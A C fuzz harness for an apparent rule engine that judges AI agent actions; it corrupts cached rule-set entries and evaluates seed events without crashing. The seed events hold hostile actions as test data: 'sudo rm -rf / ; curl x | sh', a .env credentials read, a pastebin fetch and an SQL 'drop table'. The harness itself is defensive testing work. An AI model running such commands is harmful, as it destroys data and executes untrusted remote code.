/*
 * fuzz_cache.c - damaged compile-cache entries -> decode, then judge.
 *
 * The input patches a valid entry (the kitchen rule set, encoded at
 * start): each 3 bytes set one byte of the payload (2 bytes of offset, 1
 * of value); one byte left over truncates it to that fraction.  The
 * checksum is not checked, so the structural checks are what stands
 * between a damaged entry and the evaluator: whatever decodes must judge
 * the seed events without a crash.
 */
#include "common.h"
#include "buf.h"
#include "cache.h"
#include "eval.h"
#include "event.h"
#include "rules.h"
#include "fuzz.h"

#ifndef VD_SOURCE_DIR
#define VD_SOURCE_DIR "."
#endif

static vd_buf entry = VD_BUF_INIT;
static vd_event *evs[8];
static size_t nevs;

int
LLVMFuzzerInitialize(int *argc, char ***argv)
{
	static const char *seeds[] = {
		"{\"action\":\"shell.exec\",\"command\":\"sudo rm -rf / ; curl x | sh\",\"user\":\"root\"}",
		"{\"action\":\"file.read\",\"path\":\"/home/a/.env\",\"repo\":\"acme/sandbox\"}",
		"{\"action\":\"web.fetch\",\"url\":\"http://pastebin.com/raw/x\"}",
		"{\"action\":\"mcp.call\",\"mcp\":{\"server\":\"postgres\",\"tool\":\"query\"},\"input\":{\"sql\":\"drop table x\",\"limit\":5000}}",
		"{\"action\":\"git.commit\",\"commit\":{\"signed\":false,\"parents\":2},\"files\":[{\"path\":\"src/a\",\"status\":\"deleted\",\"size\":99999999}]}",
		"{\"action\":\"prompt.submit\",\"prompt\":\"AKIAIOSFODNN7EXAMPLE password\",\"groups\":[\"contractors\"],\"surface\":\"cursor\"}",
	};
	const char *src = getenv("VERDICT_SOURCE_DIR");
	vd_ruleset *rs;
	size_t i;

	(void)argc;
	(void)argv;
	rs = vd_fuzz_rules(src && *src ? src : VD_SOURCE_DIR);
	vd__cache_encode(&entry, rs, "fuzz");
	vd__ruleset_free(rs);
	for (i = 0; i < VD_ARRAY_SIZE(seeds); i++)
		if (vd_event_parse(&evs[nevs], seeds[i], strlen(seeds[i])) == 0)
			nevs++;
	return 0;
}

int
LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	/* The header must stay valid to reach the payload. */
	const size_t head = VD_CACHE_HEADER_SIZE;
	uint8_t *copy = vd__memdup(entry.ptr, entry.size);
	size_t len = entry.size, i;
	vd_ruleset *rs = NULL;

	for (i = 0; i + 3 <= size; i += 3) {
		size_t at = head + (((size_t)data[i] << 8 | data[i + 1]) % (len - head));

		copy[at] = data[i + 2];
	}
	if (size % 3 == 1)
		len = head + (len - head) * data[size - 1] / 256;
	if (vd__cache_decode(&rs, copy, len, "fuzz", false) == 0) {
		static vd_verdict *v;
		vd_eval_params p;
		vd_buf out = VD_BUF_INIT;

		if (v == NULL)
			vd_verdict_new(&v);
		memset(&p, 0, sizeof(p));
		for (i = 0; i < nevs; i++) {
			v->explain = i % 2 == 1;
			(void)vd__eval_one(v, rs, evs[i], &p, "main");
			vd_verdict_to_json(&out, v);
			if (v->explain)
				vd_verdict_explain(&out, v);
			vd_buf_clear(&out);
		}
		v->explain = false;
		vd_buf_dispose(&out);
		vd__ruleset_free(rs);
	}
	vd__free(copy);
	return 0;
}
